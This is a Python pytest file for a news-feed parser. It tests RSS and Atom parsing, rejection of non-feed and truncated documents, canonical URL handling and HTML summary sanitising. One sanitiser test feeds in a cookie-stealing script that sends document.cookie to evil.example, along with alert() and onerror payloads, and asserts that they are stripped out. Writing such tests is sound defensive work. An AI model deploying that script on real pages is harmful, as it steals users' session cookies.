"""parse_feed on the demo world's RSS and Atom (against feedparser and the world's own truth), on
documents that are empty, HTML, truncated or undecodable, and on every real feed in ../shared;
canonical URLs and plain-text summaries."""

from __future__ import annotations

import calendar
from datetime import UTC, datetime

import feedparser
import pytest

from tapewire.demo.world import DemoWorld, build_world
from tapewire.errors import BadInputError
from tapewire.ingest.parse import ParsedFeed, parse_feed
from tapewire.ingest.sanitize import canonical_url, summary_text
from tapewire.ingest.stage import NormalizedItem, normalize_items
from tests.conftest import DEMO_AS_OF, SHARED_DATA, shared_data

FETCHED_AT = datetime(2030, 1, 1, tzinfo=UTC)  # later than any real item: undated ones stand out


@pytest.fixture(scope="module")
def world() -> DemoWorld:
    return build_world(seed=7, as_of=DEMO_AS_OF)


def feed_paths() -> list[str]:
    from tapewire.demo.world import OUTLETS

    return [outlet.feed_path for outlet in OUTLETS]


def feedparser_view(body: bytes) -> list[tuple[str, str, datetime | None]]:
    out = []
    for entry in feedparser.parse(body).entries:
        stamp = dict.get(entry, "published_parsed") or dict.get(entry, "updated_parsed")
        when = datetime.fromtimestamp(calendar.timegm(stamp), tz=UTC) if stamp else None
        out.append((entry.get("title", ""), entry.get("link", ""), when))
    return out


def shared_feed_names() -> list[str]:
    """Every file under ../shared/data/feeds as ``folder/name`` (a placeholder that skips when
    the data is absent, so the test reports why)."""
    root = SHARED_DATA / "feeds"
    if not root.is_dir():
        return ["absent/absent"]
    return sorted(f"{p.parent.name}/{p.name}" for p in root.glob("*/*") if p.is_file())


def normalized(feed: ParsedFeed) -> set[tuple[str, str, datetime, str]]:
    items: list[NormalizedItem] = normalize_items(feed, fetched_at=FETCHED_AT)
    return {(i.title, i.canonical_url, i.published_at, i.summary) for i in items}


# ---------------------------------------------------------------- the demo world's feeds


@pytest.mark.parametrize("path", feed_paths())
def test_demo_feed_parses_like_feedparser(world: DemoWorld, path: str) -> None:
    body = world.files[path][0]
    parsed = parse_feed(body, url=path)
    ours = [(i.title, i.url, i.published_at) for i in parsed.items]
    theirs = feedparser_view(body)
    assert len(ours) == len(theirs) > 0
    assert ours == theirs
    assert parsed.warning is None


@pytest.mark.parametrize("path", feed_paths())
def test_demo_feed_gives_back_the_worlds_news(world: DemoWorld, path: str) -> None:
    outlet = next(o for o in world.outlets if o.feed_path == path)
    expected = [n for n in world.news if n.outlet == outlet.name]
    parsed = parse_feed(world.files[path][0], url=path)
    assert parsed.kind == outlet.format  # rss or atom: read by the fast path
    assert parsed.title == outlet.name
    assert [(i.title, i.url, i.published_at) for i in parsed.items] == [
        (n.title, n.url, n.published_at) for n in expected
    ]
    assert [summary_text(i.summary_html) for i in parsed.items] == [
        summary_text(n.summary) for n in expected
    ]
    assert {i.guid for i in parsed.items} == {n.url for n in expected}


def test_the_demo_world_has_both_formats(world: DemoWorld) -> None:
    kinds = {parse_feed(world.files[path][0]).kind for path in feed_paths()}
    assert kinds == {"rss", "atom"}


# ---------------------------------------------------------------- documents that are not feeds


@pytest.mark.parametrize(
    "body", [b"", b"   \n\t  ", b"\xef\xbb\xbf"], ids=["empty", "blank", "bom"]
)
def test_an_empty_document_is_rejected(body: bytes) -> None:
    with pytest.raises(BadInputError, match=r"(?i)empty.*feeds/x\.xml"):
        parse_feed(body, url="feeds/x.xml")


@pytest.mark.parametrize(
    "body",
    [
        b"<!doctype html><html><head><title>Moved</title></head><body>Gone</body></html>",
        b"\n  <html><body><p>Sign in to continue</p></body></html>",
        b'<html xmlns="http://www.w3.org/1999/xhtml"><body>hi</body></html>',
    ],
    ids=["doctype", "leading-space", "xhtml"],
)
def test_an_html_page_is_rejected(body: bytes) -> None:
    with pytest.raises(
        BadInputError, match=r"not a feed: https://wire\.example/feed is an HTML page"
    ):
        parse_feed(body, url="https://wire.example/feed")


@pytest.mark.parametrize(
    "body",
    [
        b"<note><to>Tove</to></note>",
        b'{"version": "https://jsonfeed.org/version/1.1"}',
        b"\x00\xff" * 40,
    ],
    ids=["other-xml", "json-without-items", "binary"],
)
def test_other_documents_are_rejected(body: bytes) -> None:
    with pytest.raises(BadInputError, match="not a feed"):
        parse_feed(body)


def test_a_garbled_encoding_declaration_is_rejected_not_a_crash() -> None:
    """feedparser decodes the declared encoding's name; stray bytes there used to escape as a
    UnicodeDecodeError and stop the whole ingest run."""
    body = (
        b'<?xml version="1.0" encoding="\xcfTF-8"?><rss version="2.0"><channel>'
        b"<item><title>One</title><link>https://wire.example/1</link></item></channel></rss>"
    )
    with pytest.raises(BadInputError, match="not a feed"):
        parse_feed(body)


# ---------------------------------------------------------------- truncated documents


def test_a_feed_cut_inside_an_item_keeps_only_the_whole_items(world: DemoWorld) -> None:
    body = world.files["/feeds/dailyledger.xml"][0]
    full = parse_feed(body).items
    third_link = body.index(b"<link>", body.index(full[2].title.encode())) + len("<link>htt")
    parsed = parse_feed(body[:third_link])  # ends "<link>htt": the third item is cut off
    assert parsed.items == full[:2]
    assert parsed.warning is not None and "malformed XML" in parsed.warning


def test_an_atom_feed_cut_before_its_dates_stores_no_undated_entry(world: DemoWorld) -> None:
    """Cut between an entry's link and its date, a recovered entry would get the fetch time as
    its date, for good (its URL is then "known"). It is dropped instead."""
    body = world.files["/feeds/harborstreet.xml"][0]
    full = parse_feed(body).items
    cut = body.index(b"<published>", body.index(full[1].url.encode()))
    parsed = parse_feed(body[:cut])
    assert parsed.items == full[:1]
    assert all(item.published_at is not None for item in parsed.items)


def test_a_feed_cut_inside_a_character_keeps_its_encoding() -> None:
    """Cut inside a multi-byte character the document is not UTF-8 any more; read tolerantly as
    Windows-1252 every title would turn to mojibake ("Acmeâ€™s")."""
    items = "".join(
        f"<item><title>Acme\u2019s rally, day {i}</title><link>https://wire.example/{i}</link>"
        "<pubDate>Thu, 19 Nov 2026 21:00:00 GMT</pubDate></item>"
        for i in range(3)
    )
    body = f'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>{items}'.encode()
    cut = body.rindex("\u2019".encode()) + 1  # one byte into the last title's apostrophe
    parsed = parse_feed(body[:cut])
    assert [i.title for i in parsed.items] == [
        "Acme\u2019s rally, day 0",
        "Acme\u2019s rally, day 1",
    ]


@pytest.mark.parametrize("path", feed_paths())
def test_every_cut_of_a_demo_feed_gives_whole_items_or_an_error(
    world: DemoWorld, path: str
) -> None:
    body = world.files[path][0]
    full = normalized(parse_feed(body))
    kept = 0
    for cut in range(0, len(body), 13):
        try:
            got = normalized(parse_feed(body[:cut]))
        except BadInputError:
            continue
        assert got <= full, cut  # never a cut title, link or summary, never a made-up date
        kept += len(got)
    assert kept > 0  # most cuts still yield the items before them


# ---------------------------------------------------------------- every real feed


@pytest.mark.parametrize("name", shared_feed_names())
def test_every_real_feed_gives_items_or_a_reason(name: str) -> None:
    path = shared_data("feeds", *name.split("/"))
    body = path.read_bytes()
    try:
        parsed = parse_feed(body, url=path.name)
    except BadInputError as exc:
        assert str(exc) and "\n" not in str(exc)
        return
    assert parsed.kind
    for item in parsed.items:
        assert item.title and item.title == item.title.strip()
        assert item.url and item.url == item.url.strip()
        assert item.published_at is None or item.published_at.tzinfo is not None
    normalize_items(parsed, fetched_at=FETCHED_AT)  # and normalizing never raises


@pytest.mark.parametrize("name", shared_feed_names())
def test_every_cut_of_a_real_feed_gives_whole_items_or_an_error(name: str) -> None:
    body = shared_data("feeds", *name.split("/")).read_bytes()
    try:
        full = normalized(parse_feed(body))
    except BadInputError:
        return
    for cut in range(0, len(body), max(1, len(body) // 25)):
        try:
            got = normalized(parse_feed(body[:cut]))
        except BadInputError:
            continue
        assert got <= full, cut


# ---------------------------------------------------------------- canonical URLs and summaries


@pytest.mark.parametrize(
    ("url", "canonical"),
    [
        (
            "https://News.Example.COM/markets/acme?utm_source=rss&utm_medium=feed&utm_campaign=x",
            "https://news.example.com/markets/acme",
        ),
        (
            "https://news.example.com/a?id=7&fbclid=IwAR0abc#comments",
            "https://news.example.com/a?id=7",
        ),
        (
            "https://news.example.com/a?page=2&UTM_Content=x&ref=home&gclid=1",
            "https://news.example.com/a?page=2&ref=home",
        ),
        ("HTTP://WWW.Example.com/Path/Keeps/Case", "http://www.example.com/Path/Keeps/Case"),
        ("https://news.example.com/a#section-2", "https://news.example.com/a"),
        (
            "https://news.example.com/search?q=a%20b&lang=en",
            "https://news.example.com/search?lang=en&q=a+b",
        ),
    ],
)
def test_canonical_url(url: str, canonical: str) -> None:
    assert canonical_url(url) == canonical
    assert canonical_url(canonical) == canonical


def test_tracking_variants_of_one_article_share_a_canonical_url() -> None:
    variants = [
        "https://news.example.com/story/42",
        "https://NEWS.example.com/story/42?utm_source=twitter",
        "https://news.example.com/story/42?fbclid=xyz#top",
        "https://news.example.com:443/story/42",
    ]
    assert {canonical_url(v) for v in variants} == {"https://news.example.com/story/42"}


def test_summary_text_drops_scripts_and_tags() -> None:
    html = (
        "<div><p>Acme <em>beats</em> estimates.</p>"
        "<script type='text/javascript'>document.location='https://evil.example/'+document.cookie"
        "</script><SCRIPT>alert(1)</SCRIPT><style>.x{color:red}</style>"
        '<img src=x onerror="alert(2)"><p>Shares rise&nbsp;4%.</p></div>'
    )
    text = summary_text(html)
    assert text == "Acme beats estimates. Shares rise 4%."
    assert "<" not in text and "evil" not in text and "alert" not in text and "color" not in text


def test_summary_text_of_escaped_markup_is_text_too() -> None:
    assert summary_text("&lt;b&gt;Bold&lt;/b&gt; &amp; plain &lt;script&gt;x()&lt;/script&gt;") == (
        "Bold & plain"
    )
